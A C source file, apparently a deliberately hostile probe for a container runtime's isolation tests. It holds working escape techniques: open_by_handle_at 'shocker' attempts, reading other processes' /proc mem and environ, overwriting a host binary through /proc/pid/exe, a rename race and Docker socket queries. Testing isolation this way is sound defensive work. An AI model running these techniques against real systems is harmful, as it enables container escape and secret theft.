/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A hostile program for tests of isolation, linked static so that it runs in any image. Each
 * command tries what a container must not be able to do and prints what came of it; the tests
 * judge.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef AF_ALG
#define AF_ALG 38
#endif
#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif

static const char *error_name(long r) {
    return r >= 0 ? "ok" : strerrorname_np(errno);
}

/* ---- calls: system calls with arguments that do no harm when they are let through ------------ */
struct attempt {
    const char *name;
    long number, arg[4];
};

#define TRY(call, ...)                                                                             \
    {                                                                                              \
#call, SYS_##call, {                                                                       \
            __VA_ARGS__                                                                            \
        }                                                                                          \
    }

static const struct attempt attempts[] = {
    TRY(mount, 0, 0, 0, 0),
    TRY(umount2, (long)"/nothing", 0),
    TRY(pivot_root, (long)"/nothing", (long)"/nothing"),
    TRY(swapon, (long)"/nothing", 0),
    TRY(swapoff, (long)"/nothing"),
    TRY(reboot, 0, 0, 0, 0),
    TRY(init_module, 0, 0, 0),
    TRY(finit_module, -1, 0, 0),
    TRY(delete_module, (long)"nothing", 0),
    TRY(kexec_load, 0, -1, 0, -1),
    TRY(keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0),
    TRY(add_key, (long)"user", (long)"x", (long)"x", 1),
    TRY(request_key, (long)"user", (long)"x", 0, 0),
    TRY(bpf, 0, 0, 0),
    TRY(perf_event_open, 0, 0, 0, 0),
    TRY(open_by_handle_at, -1, 0, 0),
    TRY(setns, -1, 0),
    TRY(unshare, CLONE_NEWNS),
    TRY(userfaultfd, 0),
    TRY(acct, (long)"/nothing"),
    TRY(settimeofday, 0, 0),
    TRY(clock_settime, 0, 0),
    TRY(quotactl, 0, 0, 0, 0),
    TRY(lookup_dcookie, 0, 0, 0),
    TRY(io_uring_setup, 0, 0),
    TRY(move_mount, -1, 0, -1, 0),
    TRY(fsopen, (long)"tmpfs", 0),
    TRY(open_tree, -1, (long)"/nothing", 0),
    TRY(fsmount, -1, 0, 0),
    TRY(mount_setattr, -1, (long)"/nothing", 0, 0),
    TRY(kcmp, 0, 0, 0, 0),
    TRY(syslog, 3, 0, 0),
    TRY(vhangup, 0),
    TRY(personality, 0x0040000 /* ADDR_NO_RANDOMIZE */),
    TRY(nfsservctl, 0),
#ifdef SYS_iopl
    TRY(iopl, 3),
    TRY(ioperm, 0, 1, 1),
#endif
    TRY(clone3, 0, 0),
};

static int calls(void) {
    for (size_t i = 0; i < sizeof(attempts) / sizeof(*attempts); i++) {
        const struct attempt *a = &attempts[i];
        long r = syscall(a->number, a->arg[0], a->arg[1], a->arg[2], a->arg[3]);
        printf("%s %s\n", a->name, error_name(r));
    }
    printf("clone_newuser %s\n", error_name(unshare(CLONE_NEWUSER)));
    printf("socket_alg %s\n", error_name(socket(AF_ALG, SOCK_SEQPACKET, 0)));
    printf("socket_vsock %s\n", error_name(socket(AF_VSOCK, SOCK_STREAM, 0)));
    printf("unknown %s\n", error_name(syscall(9999)));
    printf("beyond %s\n", error_name(syscall(1023)));
    char c = 'x';
    printf("tiocsti %s\n", error_name(ioctl(0, TIOCSTI, &c)));
    return 0;
}

/* ---- keys: whose session keyring is this? ---------------------------------------------------- */
static int keys(void) {
    long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
    char text[256] = "";
    printf("session %s\n", error_name(id));
    if (id < 0)
        return 0;
    if (syscall(SYS_keyctl, KEYCTL_DESCRIBE, id, text, sizeof(text) - 1) < 0)
        snprintf(text, sizeof(text), "%s", error_name(-1));
    printf("id %ld\ndescription %s\n", id, text);
    printf("add %s\n", error_name(syscall(SYS_add_key, "user", "fence-probe", "x", 1,
                                          KEY_SPEC_SESSION_KEYRING)));
    printf("search %s\n", error_name(syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING,
                                             "user", "fence-secret", 0)));
    return 0;
}

/* ---- state: what a process has been given ---------------------------------------------------- */
static int state(void) {
    int signal = -1;
    if (prctl(PR_GET_PDEATHSIG, &signal) < 0)
        return 1;
    mode_t mask = umask(0);
    printf("dumpable %d\nkeepcaps %d\nsecurebits %d\nno_new_privs %d\npdeathsig %d\numask %04o\n",
           prctl(PR_GET_DUMPABLE), prctl(PR_GET_KEEPCAPS), prctl(PR_GET_SECUREBITS),
           prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0), signal, (unsigned)mask);
    printf("ppid %d\nsession %d\n", (int)getppid(), (int)getsid(0) == (int)getpid());
    sigset_t blocked;
    int count = 0, ignored = 0;
    if (sigprocmask(SIG_SETMASK, NULL, &blocked) < 0)
        return 1;
    for (int n = 1; n < 65; n++) {
        struct sigaction sa;
        count += sigismember(&blocked, n) == 1;
        ignored += sigaction(n, NULL, &sa) == 0 && sa.sa_handler == SIG_IGN;
    }
    printf("blocked %d\nignored %d\n", count, ignored);
    /* Descriptors by number, not by /proc, which may itself be the thing that lies. */
    for (int fd = 0; fd < 65536; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            printf("fd %d\n", fd);
    return 0;
}

/* ---- shocker: a file of the host by its handle ----------------------------------------------- */
static int shocker(const char *base) {
    struct {
        struct file_handle h;
        unsigned char data[MAX_HANDLE_SZ];
    } at;
    int dir = open(base, O_RDONLY | O_DIRECTORY);
    if (dir < 0)
        return 1;
    /* The root of an ext4, xfs or btrfs has a well-known number. */
    static const unsigned inodes[] = {2, 64, 128, 256};
    for (size_t i = 0; i < sizeof(inodes) / sizeof(*inodes); i++) {
        memset(&at, 0, sizeof(at));
        at.h.handle_bytes = 8;
        at.h.handle_type = 1;
        memcpy(at.h.f_handle, &inodes[i], sizeof(inodes[i]));
        int fd = open_by_handle_at(dir, &at.h, O_RDONLY);
        printf("handle %s\n", error_name(fd));
    }
    return 0;
}

/* ---- stalk: looks at everything that appears in the PID namespace ---------------------------- */
static void look(const char *pid, const char *what, int flags) {
    char path[128], target[512];
    snprintf(path, sizeof(path), "/proc/%s/%s", pid, what);
    ssize_t n = readlink(path, target, sizeof(target) - 1);
    if (n >= 0) {
        target[n] = '\0';
        printf("%s %s\n", what, target);
    }
    int fd = open(path, flags | O_CLOEXEC);
    if (fd >= 0) {
        printf("open-%s %s\n", what, n >= 0 ? target : "");
        close(fd);
    }
}

static void look_at_fds(const char *pid) {
    char path[64], target[512];
    snprintf(path, sizeof(path), "/proc/%s/fd", pid);
    int dir = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (dir < 0)
        return;
    DIR *d = fdopendir(dir);
    for (struct dirent *e; d && (e = readdir(d));) {
        ssize_t n = readlinkat(dir, e->d_name, target, sizeof(target) - 1);
        if (n > 0) {
            target[n] = '\0';
            printf("fd %s\n", target);
        }
    }
    if (d)
        closedir(d);
}

static int stalk(double seconds) {
    struct timespec start, now;
    pid_t self = getpid();
    clock_gettime(CLOCK_MONOTONIC, &start);
    printf("ready\n");
    do {
        DIR *d = opendir("/proc");
        for (struct dirent *e; d && (e = readdir(d));) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self)
                continue;
            look(e->d_name, "exe", O_RDWR);
            look(e->d_name, "root", O_RDONLY);
            look(e->d_name, "cwd", O_RDONLY);
            look(e->d_name, "mem", O_RDWR);
            look(e->d_name, "environ", O_RDONLY);
            look_at_fds(e->d_name);
        }
        if (d)
            closedir(d);
        fflush(stdout);
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((double)(now.tv_sec - start.tv_sec) + (double)(now.tv_nsec - start.tv_nsec) / 1e9 <
             seconds);
    printf("done\n");
    return 0;
}

/* ---- overwrite: keeps trying to write to the program that a process came from ---------------- */
static _Noreturn void overwrite(void) {
    printf("ready\n");
    fflush(stdout);
    for (int held = -1;;) {
        for (int pid = 1; pid < 400; pid++) {
            char path[64];
            snprintf(path, sizeof(path), "/proc/%d/exe", pid);
            if (held < 0 && pid != getpid())
                held = open(path, O_RDONLY | O_CLOEXEC);
        }
        if (held < 0)
            continue;
        char again[64];
        snprintf(again, sizeof(again), "/proc/self/fd/%d", held);
        int fd = open(again, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            printf("opened for writing\n");
            if (write(fd, "#!/evil\n", 8) == 8)
                printf("overwritten\n");
            fflush(stdout);
            close(fd);
        }
        close(held);
        held = -1;
    }
}

/* ---- swap: exchanges two names until it is killed -------------------------------------------- */
static int swap(const char *a, const char *b) {
    printf("ready\n");
    fflush(stdout);
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0 &&
            errno != EBUSY) {
            perror("renameat2");
            return 1;
        }
}

/* ---- get: what the engine's API says, asked in the first moments of a container -------------- */
static int get(const char *path) {
    struct sockaddr_un sa = {.sun_family = AF_UNIX, .sun_path = "/var/run/docker.sock"};
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    char host[65] = "", data[4096];
    ssize_t n;
    if (gethostname(host, sizeof(host) - 1) < 0 ||
        connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
        return printf("error %s\n", strerrorname_np(errno)) > 0;
    dprintf(fd, "GET %s%s/json HTTP/1.0\r\n\r\n", path, host);
    while ((n = read(fd, data, sizeof(data))) > 0)
        fwrite(data, 1, (size_t)n, stdout);
    return 0;
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "";
    setvbuf(stdout, NULL, _IOFBF, 65536);
    if (!strcmp(what, "calls"))
        return calls();
    if (!strcmp(what, "keys"))
        return keys();
    if (!strcmp(what, "state"))
        return state();
    if (!strcmp(what, "shocker") && argc == 3)
        return shocker(argv[2]);
    if (!strcmp(what, "stalk") && argc == 3)
        return stalk(atof(argv[2]));
    if (!strcmp(what, "overwrite"))
        overwrite();
    if (!strcmp(what, "swap") && argc == 4)
        return swap(argv[2], argv[3]);
    if (!strcmp(what, "get") && argc == 3)
        return get(argv[2]);
    if (!strcmp(what, "sleep"))
        return pause();
    if (!strcmp(what, "ids"))
        return printf("uid %d\neuid %d\n", (int)getuid(), (int)geteuid()) < 0;
    /* Executed under another name (#!/proc/self/exe, a helper of the host): say so. */
    printf("probe as %s\n", argv[0]);
    return 0;
}
